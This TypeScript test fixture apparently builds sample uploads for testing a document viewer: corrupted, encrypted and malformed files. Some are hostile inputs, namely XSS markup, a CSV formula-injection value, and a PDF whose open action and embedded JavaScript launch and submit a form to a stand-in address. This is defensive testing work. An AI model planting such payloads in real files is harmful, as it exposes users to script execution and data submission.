import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { createBusinessPlanPdf } from '../../../src/backend/demo/materials/business-plan-pdf.ts';
import {
  createDemoEntries,
  type DemoEntry,
} from '../../../src/backend/demo/materials/demo-entries.ts';
import { readDemoResources } from '../../../src/backend/demo/materials/demo-resources.ts';
import { createPitchDeckPdf } from '../../../src/backend/demo/materials/pitch-deck-pdf.ts';
import { PROJECT } from '../../support/project.ts';
import type { PreparedEntry } from '../../support/prepared-contest.ts';
import { createDecoderPdf } from './decoder-pdf.ts';
import { createFontMatrixPdf } from './font-matrix-pdf.ts';

export const PLAN_PAGES = 60;
export const FILE_PASSWORD = '路演2024';
export const MARKUP = '<img src=x onerror="document.title=1"><script>document.title=2</script>';
const CAPTIONS = 'WEBVTT\n\n00:00.000 --> 00:30.000\n这是字幕\n';
export const FOREIGN_ADDRESS = 'http://elsewhere.invalid/';

/** The entry whose plan is read. */
export const PLAN_ENTRY: DemoEntry = firstEntry();

/** One entry for each kind of material. */
export async function writeMaterials(folder: string): Promise<readonly PreparedEntry[]> {
  const text = (value: string) => new TextEncoder().encode(value);
  const resources = await readDemoResources(join(PROJECT, 'resources', 'demo'));
  const plan = { pages: PLAN_PAGES, embedFont: false } as const;
  const deck = await createPitchDeckPdf(PLAN_ENTRY, { embedFont: false });
  const locked = await PDFDocument.load(deck);
  locked.encrypt({ userPassword: FILE_PASSWORD, ownerPassword: 'owner' });
  type File = readonly [string, Uint8Array];
  const files: Readonly<Record<string, readonly File[]>> = {
    'P-1': [['商业计划书.pdf', await createBusinessPlanPdf(PLAN_ENTRY, plan)]],
    'P-2': [['损坏.pdf', damage(deck)]],
    'P-3': [
      ['演示视频.mp4', resources.video],
      ['演示视频.vtt', text(CAPTIONS)],
    ],
    'P-4': [['产品图片.jpg', resources.photo]],
    'P-5': [['带动作.pdf', await createHostilePdf()]],
    'P-6': [['加密.pdf', await locked.save()]],
    'P-7': [
      ['财务.csv', text(`年份,收入,"说明, 单位万元"\n2023,120,${MARKUP}\n2024,360,"=1+1"`)],
      ['说明.txt', text(`第一行\n${MARKUP}`)],
    ],
    'P-8': [['图像格式.pdf', await createDecoderPdf()]],
    'P-9': [['字体矩阵.pdf', createFontMatrixPdf()]],
  };
  const entries: PreparedEntry[] = [];
  for (const [id, own] of Object.entries(files)) {
    const materials: string[] = [];
    for (const [name, bytes] of own) {
      materials.push(join(folder, name));
      await writeFile(join(folder, name), bytes);
    }
    entries.push({ id, title: `项目${id}`, materials });
  }
  return entries;
}

function firstEntry(): DemoEntry {
  const [entry] = createDemoEntries(1);
  if (!entry) throw new Error('no demo entries');
  return entry;
}

/** Still begins as a PDF does; the second half, where the cross-reference lies, is noise. */
function damage(pdf: Uint8Array): Uint8Array {
  const half = Math.floor(pdf.length / 2);
  return pdf.map((byte, index) =>
    index < 64 ? byte : index < half ? (byte * 7 + index) & 0xff : 0,
  );
}

/** Wants to run a script and to open an address when it is opened, and again at a click. */
async function createHostilePdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const page = document.addPage([600, 400]);
  page.drawText('click here', { x: 40, y: 200, size: 60 });
  const { context } = document;
  const uri = { Type: 'Action', S: 'URI', URI: PDFString.of(FOREIGN_ADDRESS) };
  const script = `app.launchURL("${FOREIGN_ADDRESS}"); this.submitForm("${FOREIGN_ADDRESS}");`;
  const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 600, 400], A: uri });
  page.node.set(PDFName.of('Annots'), context.obj([context.register(link)]));
  page.node.set(PDFName.of('AA'), context.obj({ O: uri }));
  document.addJavaScript('open', script);
  document.catalog.set(PDFName.of('OpenAction'), context.obj(uri));
  return document.save();
}
